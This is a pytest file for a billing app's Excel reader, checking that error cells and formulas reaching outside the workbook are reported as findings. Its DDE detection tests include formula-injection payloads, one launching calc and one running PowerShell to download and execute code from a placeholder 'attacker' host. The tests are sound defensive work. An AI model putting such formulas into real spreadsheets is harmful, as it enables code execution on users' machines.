"""Excel error values and formulas reaching out of the workbook: findings at their cells, never blanks.

python-calamine shows an error cell as empty text; the reader reads the sheet XML for them
(`billing.workbook.cellscan`), and validation reports each one in a cell the contract reads.
The error cells are written into the package by the tests (`xlsx_edit`), with every code
Excel knows, typed and as a formula's cached result.
"""

from __future__ import annotations

import datetime as dt
import subprocess
import sys

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from billing.workbook import cellscan as xlsx_cellscan
from billing.cellvalues import ErrorValue
from billing.contract import ALLOCATIONS
from billing.workbook.cellscan import Link, formula_link, scan_cells
from billing.workbook.read import read_book
from builders import base_sheets, set_cell, write_book
from validation import validate_book
from xlsx_edit import error_cell, rewrite_parts, set_cell_xml, sheet_part

CODES = ["#N/A", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#NULL!", "#GETTING_DATA", "#SPILL!",
         "#CALC!"]

#: (sheet, cell, what it would have silently meant as a blank)
PLACES = [
    ("Invoices", "J2", "status: an issued invoice becomes a draft"),
    ("Invoices", "I3", "discount_pct: the discount is dropped"),
    ("Invoices", "B2", "invoice_no: the invoice is numbered again"),
    ("Invoices", "D2", "customer_id (required): the credit note on row 4 now corrects another customer's invoice"),
    ("Invoices", "J1", "the status header: the column goes missing"),
    ("InvoiceLines", "D2", "quantity"),
    ("InvoiceLines", "F3", "a line discount"),
    ("Payments", "C2", "amount"),
    ("Customers", "E2", "the customer's currency"),
    ("TaxRates", "B2", "a rate"),
    ("Settings", "B4", "a setting's value (base_currency)"),
    ("Settings", "A5", "a setting's key (rounding)"),
]


def book_with(tmp_path, sheet: str, ref: str, cell_xml: str, sheets=None):
    path = write_book(tmp_path / "book.xlsx", sheets or base_sheets())
    return set_cell_xml(path, sheet, ref, cell_xml)


def findings(path, **kwargs):
    result = validate_book(read_book(path, **kwargs))
    return result, [(f.cell, f.rule) for f in result.findings]


#: every code at one place, and every place with an old and a new code (python-calamine refuses
#: the new ones outright; the reader reads a copy in which they are #N/A, and reports the code)
CASES = ([("Invoices", "J2", PLACES[0][2], code) for code in CODES]
         + [(sheet, ref, meaning, code) for sheet, ref, meaning in PLACES[1:] for code in ("#N/A", "#SPILL!")])


@pytest.mark.parametrize("sheet, ref, meaning, code", CASES, ids=[f"{s}!{r}-{c}" for s, r, _, c in CASES])
def test_error_value_is_one_finding_at_its_cell(tmp_path, sheet, ref, meaning, code):
    path = book_with(tmp_path, sheet, ref, error_cell(ref, code))
    result, found = findings(path)
    assert [f for f in found if f[0] == f"{sheet}!{ref}"] == [(f"{sheet}!{ref}", "error_value")], meaning
    assert len(found) == 1 or ref in ("B2", "D2")  # the credit note on row 4 corrects invoice 2
    assert next(f for f in result.findings if f.rule == "error_value").message.startswith(code)
    assert not result.valid and result.tables is None and result.computed is None  # nothing computed


@pytest.mark.parametrize("formula", ["VLOOKUP(D2,Customers!A:B,2,FALSE)", "1/0", "A1+#REF!"])
def test_error_from_a_formula(tmp_path, formula):
    path = book_with(tmp_path, "Invoices", "J2", error_cell("J2", "#N/A", formula.replace("&", "&amp;")))
    assert findings(path)[1] == [("Invoices!J2", "error_value")]


def test_error_value_read_as_error_not_blank(tmp_path):
    path = book_with(tmp_path, "Invoices", "J2", error_cell("J2", "#N/A"))
    table = read_book(path)["Invoices"]
    assert table.frame.at[2, "status"] == ErrorValue("#N/A")
    assert table.error_cells == {(2, 9): ErrorValue("#N/A")}


def test_error_in_allocations_read_by_close(tmp_path):
    sheets = base_sheets()
    sheets["Allocations"] = [list(ALLOCATIONS.column_names),
                             ["P1", "INV-2026-000001", 100.5, "manual", None, None, 0]]
    path = book_with(tmp_path, "Allocations", "G2", error_cell("G2", "#VALUE!"), sheets)
    assert findings(path, optional=(ALLOCATIONS,))[1] == [("Allocations!G2", "error_value")]
    path = set_cell_xml(path, "Allocations", "C2", error_cell("C2", "#REF!"))
    assert ("Allocations!C2", "error_value") in findings(path, optional=(ALLOCATIONS,))[1]


@pytest.mark.parametrize("header, expected", [("my notes", []), ("last_reminder", [("Invoices!R2", "error_value")])])
def test_error_outside_the_contract_only_where_it_is_read(tmp_path, header, expected):
    """A column of the user's own is not read; dunning reads `last_reminder`."""
    sheets = base_sheets()
    for n, row in enumerate(sheets["Invoices"]):
        row.append(header if n == 0 else dt.date(2026, 10, 20))
    path = book_with(tmp_path, "Invoices", "R2", error_cell("R2", "#N/A"), sheets)
    assert findings(path)[1] == expected


def test_compute_refuses_with_exit_1(tmp_path):
    path = book_with(tmp_path, "Invoices", "J2", error_cell("J2", "#N/A"))
    for command in ("compute",):
        run = subprocess.run([sys.executable, "-m", "billing", command, str(path)], capture_output=True,
                             text=True, timeout=120)
        assert run.returncode == 1, run.stderr
        assert f"{path}!Invoices!J2: #N/A" in run.stdout and "(error_value)" in run.stdout


# -- formulas that reach out of the workbook ------------------------------------------------------

@pytest.mark.parametrize("formula, rule", [
    ("cmd|' /C calc'!A0", "dde_formula"),
    ("cmd|'/C powershell IEX(wget attacker/x)'!A0+1", "dde_formula"),
    ("[1]Sheet1!A1", "external_link"),
    ("'[1]Price list'!$B$2*2", "external_link"),
    ("[1]!Rate", "external_link"),
    ("'C:\\prices\\[Book.xlsx]Sheet1'!A1", "external_link"),
])
def test_formula_reaching_out_is_an_error_at_its_cell(tmp_path, formula, rule):
    escaped = formula.replace("&", "&amp;").replace("'", "&apos;")
    cell = f'<c r="E2"><f>{escaped}</f><v>120</v></c>'
    path = book_with(tmp_path, "InvoiceLines", "E2", cell)
    assert findings(path)[1] == [("InvoiceLines!E2", rule)]


@pytest.mark.parametrize("formula", ['SUM(Table1[net])', '"a|b"&"[1]x!"', "'a|b'!A1", "Customers!A1",
                                     "INDEX(Invoices[[#This Row],[net]],1)+Sheet2!A1"])
def test_ordinary_formulas_pass(tmp_path, formula):
    escaped = formula.replace("&", "&amp;").replace('"', "&quot;")
    path = book_with(tmp_path, "InvoiceLines", "E2", f'<c r="E2"><f>{escaped}</f><v>120</v></c>')
    assert findings(path)[1] == []


def test_shared_formula_followers_are_found(tmp_path):
    sheets = base_sheets()
    path = write_book(tmp_path / "book.xlsx", sheets)
    set_cell_xml(path, "InvoiceLines", "E2", '<c r="E2"><f t="shared" ref="E2:E4" si="0">[1]P!A1</f><v>1</v></c>')
    set_cell_xml(path, "InvoiceLines", "E3", '<c r="E3"><f t="shared" si="0"/><v>2</v></c>')
    found = findings(path)[1]
    assert found == [("InvoiceLines!E2", "external_link"), ("InvoiceLines!E3", "external_link")]


@pytest.mark.parametrize("formula, kind", [
    ("cmd|' /C calc'!A0", "dde"), ("[1]Sheet1!A1", "external"), ("'[2]My data'!B2", "external"),
    ("[Book1.xlsx]Sheet1!A1", "external"), ("SUM(Table1[amount])", None), ('"x|y"', None),
    ("'It''s [here]'!A1", "external"), ("Table1[[#Totals],[net]]", None), ("A1|B1", "dde"),
])
def test_formula_link(formula, kind):
    assert formula_link(formula) == kind


# -- the scan itself: quick look and walk agree, however the XML is cut ------------------------------

SHEET = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
         b'spreadsheetml/2006/main"><sheetData>'
         b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="e"><v>#N/A</v></c></row>'
         b'<row r="2"><c r="A2"><v>1</v></c><c r="C2" s="3" t="e"><f>1/0</f><v>#DIV/0!</v></c>'
         b'<c r="D2"><f>cmd|\'/C calc\'!A0</f><v>0</v></c></row>'
         + b"".join(b'<row r="%d"><c r="A%d"><v>%d</v></c><c r="B%d"><f>A%d*2</f><v>2</v></c></row>'
                    % (r, r, r, r, r) for r in range(3, 400))
         + b'<row r="400"><c r="AB400" t="e"><v>#SPILL!</v></c><c r="AC400"><f t="shared" ref="AC400:AC401" '
         b'si="7">[1]S!A1</f><v>1</v></c></row>'
         b'<row r="401"><c r="AC401"><f t="shared" si="7"/><v>1</v></c><c r="AD401" t="e"/></row>'
         b"</sheetData></worksheet>")
EXPECTED = xlsx_cellscan.CellScan(
    {(1, 1): ErrorValue("#N/A"), (2, 2): ErrorValue("#DIV/0!"), (400, 27): ErrorValue("#SPILL!"),
     (401, 29): ErrorValue(xlsx_cellscan.NO_CODE)},
    {(2, 3): Link("dde", "cmd|'/C calc'!A0"), (400, 28): Link("external", "[1]S!A1"),
     (401, 28): Link("external", "[1]S!A1")},
)


def cut(data: bytes, sizes: list[int]):
    at, n = 0, 0
    while at < len(data):
        size = sizes[n % len(sizes)] if sizes else len(data)
        yield data[at:at + size]
        at, n = at + size, n + 1


def test_quick_look_and_walk_agree():
    assert xlsx_cellscan._quick(cut(SHEET, [])) == EXPECTED
    assert xlsx_cellscan._walk(cut(SHEET, [])) == EXPECTED


@settings(max_examples=60, deadline=None)
@given(st.lists(st.integers(1, 700), min_size=1, max_size=8), st.integers(64, 4096))
def test_any_cut_gives_the_same_scan(sizes, carry):
    xlsx_cellscan.CARRY, saved = carry, xlsx_cellscan.CARRY
    try:
        assert scan_cells(lambda: cut(SHEET, sizes)) == EXPECTED
    finally:
        xlsx_cellscan.CARRY = saved


def test_cells_without_references_are_walked():
    placeless = (b'<worksheet><sheetData><row><c><v>1</v></c><c t="e"><v>#N/A</v></c></row>'
                 b'<row r="5"><c r="C5"><v>1</v></c><c t="e"><v>#REF!</v></c></row></sheetData></worksheet>')
    assert scan_cells(lambda: cut(placeless, [])).errors == {(1, 1): ErrorValue("#N/A"), (5, 3): ErrorValue("#REF!")}


def test_prefixed_elements():
    prefixed = (b'<x:worksheet xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>'
                b'<x:row r="2"><x:c r="B2" t="e"><x:v>#NAME?</x:v></x:c><x:c r="C2"><x:f>[3]A!B1</x:f>'
                b'<x:v>1</x:v></x:c></x:row></x:sheetData></x:worksheet>')
    assert scan_cells(lambda: cut(prefixed, [])) == ({(2, 1): ErrorValue("#NAME?")},
                                                      {(2, 2): Link("external", "[3]A!B1")})


def test_error_cells_of_a_sheet_without_references_reach_the_table(tmp_path):
    """An error cell without `r` follows the previous cell of its row (I2), as python-calamine places it."""
    sheets = base_sheets()
    set_cell(sheets, "Invoices", 2, "discount_pct", 0)
    path = book_with(tmp_path, "Invoices", "J2", error_cell("J2", "#N/A"), sheets)

    def drop_references(xml: bytes) -> bytes:
        return xml.replace(b'<c r="J2" t="e">', b'<c t="e">')

    rewrite_parts(path, path, {sheet_part(path, "Invoices"): drop_references})
    assert findings(path)[1] == [("Invoices!J2", "error_value")]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.integers(1, 700), min_size=1, max_size=6), st.integers(64, 2048))
def test_copy_for_calamine_patches_only_error_codes_it_refuses(sizes, carry):
    """The streamed patch equals the whole-part patch however the XML is cut, and leaves the
    cell after an empty error cell alone."""
    from billing.workbook import read as xlsx_read

    xml = SHEET.replace(b'<c r="AD401" t="e"/>', b'<c r="AD401" t="e"/><c r="AE401"><v>5</v></c>')
    whole = xlsx_read._ERROR_CELL_VALUE.sub(xlsx_read._known_error, xml)
    assert b"#SPILL!" not in whole and b"#DIV/0!" in whole and b'<c r="AE401"><v>5</v>' in whole
    xlsx_cellscan.CARRY, saved = carry, xlsx_cellscan.CARRY
    try:
        assert b"".join(xlsx_read._known_errors_only(cut(xml, sizes))) == whole
    finally:
        xlsx_cellscan.CARRY = saved


def test_long_comment_is_scanned_in_linear_time():
    import time

    xml = (b'<worksheet><sheetData><row r="1"><!--' + b"a" * (24 << 20) + b'--><c r="B1" t="e"><v>#N/A</v></c>'
           b"</row></sheetData></worksheet>")
    started = time.perf_counter()
    assert scan_cells(lambda: cut(xml, [1 << 20])).errors == {(1, 1): ErrorValue("#N/A")}
    assert time.perf_counter() - started < 3
